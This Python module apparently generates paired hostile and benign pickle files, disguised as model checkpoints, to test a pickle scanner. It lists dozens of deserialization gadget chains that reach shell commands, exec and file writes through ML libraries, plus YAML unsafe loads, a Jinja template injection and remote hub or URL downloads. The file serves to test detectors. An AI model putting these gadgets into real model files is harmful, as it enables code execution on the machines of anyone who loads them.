"""Pickles whose payload runs through a machine-learning library's own code."""
import base64
import gzip
import marshal
import zlib

from assembly import build, call, dot, glob, model, new, pickle
from pair import CODE, SHELL, Set

from .stdlib_calls import EXEC, PLAIN, SYSTEM

INNER = pickle(call(SYSTEM, SHELL))
INNER_TWIN = pickle({"a": [1, 2, 3]})


def live():
    yield "numpy-runstring", call(glob("numpy.testing._private.utils", "runstring"), CODE, {})
    yield "numpy-measure", call(glob("numpy.testing", "measure"), CODE)
    yield "numpy-f2py-myeval", call(glob("numpy.f2py.crackfortran", "myeval"), CODE, {}, {})
    yield "numpy-f2py-l-and", call(glob("numpy.f2py.crackfortran", "param_eval"), CODE, {}, {})
    yield "numpy-frompyfunc", call(call(glob("numpy", "frompyfunc"), SYSTEM, 1, 1), SHELL)
    yield "numpy-vectorize", call(dot("numpy", "vectorize", "__call__"), call(glob("numpy", "vectorize"), SYSTEM), [SHELL])
    yield "numpy-fromfunction", call(glob("numpy", "fromfunction"), call(glob("functools", "partial"), EXEC, CODE), ())
    yield "numpy-savetxt", call(glob("numpy", "savetxt"), "marker", [1.0, 2.0])
    yield "numpy-memmap-write", call(glob("numpy", "memmap"), "marker", "u1", "w+", 0, (8,))
    yield "numpy-ctypeslib", call(call(glob("builtins", "getattr"), call(glob("numpy.ctypeslib", "load_library"), "libc.so.6", "/lib/x86_64-linux-gnu"), "system"), b"touch marker")
    yield "pandas-pipe", call(glob("pandas.core.common", "pipe"), SHELL, SYSTEM)
    yield "pandas-apply-if-callable", call(glob("pandas.core.common", "apply_if_callable"), SYSTEM, SHELL)
    yield "pandas-series-map", call(dot("pandas", "Series", "map"), call(glob("pandas", "Series"), [SHELL]), SYSTEM)
    yield "pandas-to-csv", call(dot("pandas", "DataFrame", "to_csv"), call(glob("pandas", "DataFrame"), {"a": [1]}), "marker")
    wrapper = call(dot("scipy._lib._util", "MapWrapper", "__call__"), call(glob("scipy._lib._util", "MapWrapper")), SYSTEM, [SHELL])
    yield "scipy-map-wrapper", call(glob("builtins", "list"), wrapper)
    yield "setuptools-spawn", call(glob("setuptools._distutils.spawn", "spawn"), ["touch", "marker"])
    yield "pip-make-folder", call(glob("pip._internal.utils.misc", "ensure_dir"), "marker")
    yield "pandas-dotted-os", call(dot("pandas.io.common", "os", "system"), SHELL)
    yield "joblib-dotted-os", call(dot("joblib.disk", "os", "system"), SHELL)
    yield "forking-pickler", call(dot("multiprocessing.reduction", "ForkingPickler", "loads"), INNER)
    yield "sklearn-function-transformer", call(dot("sklearn.preprocessing", "FunctionTransformer", "transform"), build(new(glob("sklearn.preprocessing", "FunctionTransformer")), {"func": SYSTEM, "inverse_func": None, "validate": False, "accept_sparse": False, "check_inverse": False, "feature_names_out": None, "kw_args": None, "inv_kw_args": None}), SHELL)
    yield "joblib-load", call(glob("joblib", "load"), call(glob("io", "BytesIO"), INNER))
    yield "cloudpickle-loads-zlib", call(glob("cloudpickle", "loads"), call(glob("zlib", "decompress"), zlib.compress(INNER)))
    yield "scipy-function-wrapper", call(dot("scipy._lib._util", "_FunctionWrapper", "__call__"), build(new(glob("scipy._lib._util", "_FunctionWrapper")), {"f": SYSTEM, "args": ()}), SHELL)
    yield "sympy-sympify", call(glob("sympy", "sympify"), f"__import__('os').system('{SHELL}')")
    yield "sympy-parse-expr", call(glob("sympy.parsing.sympy_parser", "eval_expr"), CODE, {}, {})
    yield "sympy-lambdify", call(call(glob("sympy", "lambdify"), [], CODE))
    yield "sympy-get-mod-func", call(call(glob("sympy.utilities.source", "get_class"), "os.system"), SHELL)
    yield "statsmodels-load-pickle", call(glob("statsmodels.iolib.smpickle", "load_pickle"), call(glob("io", "BytesIO"), INNER))
    yield "patsy-eval", call(dot("patsy.eval", "EvalEnvironment", "eval"), call(glob("patsy.eval", "EvalEnvironment"), [{}], 0), CODE)
    yield "networkx-write", call(glob("networkx", "write_gml"), call(glob("networkx", "Graph")), "marker")
    yield "fsspec-open-write", call(dot("fsspec.implementations.local", "LocalFileSystem", "touch"), call(glob("fsspec.implementations.local", "LocalFileSystem")), "marker")
    yield "smart-open", call(glob("smart_open", "open"), "marker", "w")
    yield "yaml-unsafe", call(glob("yaml", "unsafe_load"), f"!!python/object/apply:os.system [{SHELL}]")
    yield "yaml-full-constructor", call(glob("yaml", "load"), f"!!python/object/apply:os.system [{SHELL}]", glob("yaml", "UnsafeLoader"))
    ssti = "{{ cycler.__init__.__globals__.os.popen('touch marker').read() }}"
    yield "jinja-render", call(dot("jinja2", "Template", "render"), call(glob("jinja2", "Template"), ssti))
    yield "dill-loads", call(glob("dill", "loads"), INNER)
    yield "dill-getattr", call(call(glob("dill._dill", "_get_attr"), call(glob("dill._dill", "_import_module"), "subprocess"), "getoutput"), SHELL)
    code = compile(CODE, "m", "exec")
    yield "marshal-function", call(call(glob("types", "FunctionType"), call(glob("marshal", "loads"), marshal.dumps(code)), glob("builtins", "__dict__")))
    yield "base64-pickle", call(glob("_pickle", "loads"), call(glob("base64", "b64decode"), base64.b64encode(INNER)))
    yield "bz2-open-pickle", call(glob("pickle", "_load"), call(glob("gzip", "GzipFile"), None, "rb", 9, call(glob("io", "BytesIO"), gzip.compress(INNER, mtime=0))))


def named():
    """Libraries that are not installed where the set is proved: known from their sources and advisories."""
    yield "torch-collect-env", call(glob("torch.utils.collect_env", "run"), SHELL)
    yield "torch-graph-module", call(glob("torch.fx.graph_module", "reduce_graph_module"), {"_code": f"def forward(self): pass\n{CODE}"}, CODE)
    yield "torch-exec-source", call(glob("torch.fx.graph_module", "_exec_with_source"), CODE, {})
    yield "torch-hub-load", call(glob("torch.hub", "load"), "someone/repo", "model", True)
    yield "torch-cpp-inline", call(glob("torch.utils.cpp_extension", "load_inline"), "x", "int f(){return system(\"id\");}")
    yield "torch-load-library", call(dot("torch", "ops", "load_library"), "./libx.so")
    yield "torch-bottleneck", call(glob("torch.utils.bottleneck.__main__", "run_autograd_prof"), CODE, {})
    yield "torch-inductor-code", call(dot("torch._inductor.codecache", "PyCodeCache", "load"), CODE)
    yield "torch-exec-wrapper", call(glob("torch.jit.unsupported_tensor_ops", "execWrapper"), CODE, {}, {})
    yield "torch-load-bytes", call(glob("torch", "load"), call(glob("io", "BytesIO"), INNER))
    yield "transformers-dynamic", call(glob("transformers.dynamic_module_utils", "get_class_from_dynamic_module"), "modeling.M", "someone/repo")
    yield "tensorflow-py-func", call(glob("tensorflow.python.lib.io.file_io", "write_string_to_file"), "marker", "x")
    yield "tensorflow-load-op", call(glob("tensorflow", "load_op_library"), "./x.so")
    yield "keras-lambda-code", call(glob("keras.src.utils.python_utils", "func_load"), base64.b64encode(marshal.dumps(compile(CODE, "m", "exec"))).decode())
    yield "keras-get-file", call(glob("keras.utils", "get_file"), "x", "http://192.0.2.1/x.tar")
    yield "mlflow-load-context", call(glob("mlflow.pyfunc", "load_model"), "runs:/x/model")
    yield "cudf-pickle", call(glob("dask.utils", "apply"), SYSTEM, (SHELL,))
    yield "ray-cloudpickle", call(glob("ray.cloudpickle", "loads"), INNER)
    yield "ipython-system", call(glob("IPython.utils.process", "system"), SHELL)
    yield "langchain-repl", call(dot("langchain_experimental.utilities", "PythonREPL", "run"), new(glob("langchain_experimental.utilities", "PythonREPL")), CODE)
    yield "paramiko-proxy", call(glob("paramiko", "ProxyCommand"), SHELL)
    yield "gradio-popen", call(glob("sh", "Command"), "touch")


def add(out: Set):
    for n, (name, hostile) in enumerate(live()):
        out.add("pickle-library", name, pickle(model(hostile)), pickle(model(PLAIN[n % len(PLAIN)])), "pickle", file=["pipeline.pkl", "model.joblib", "scaler.sav", "vectorizer.pickle"][n % 4])
    for n, (name, hostile) in enumerate(named()):
        out.add("pickle-library", name, pickle(model(hostile), 2 + n % 4), pickle(model(PLAIN[(n + 5) % len(PLAIN)]), 2 + n % 4), None, file=["pytorch_model.bin", "model.pth", "ckpt.pt"][n % 3])
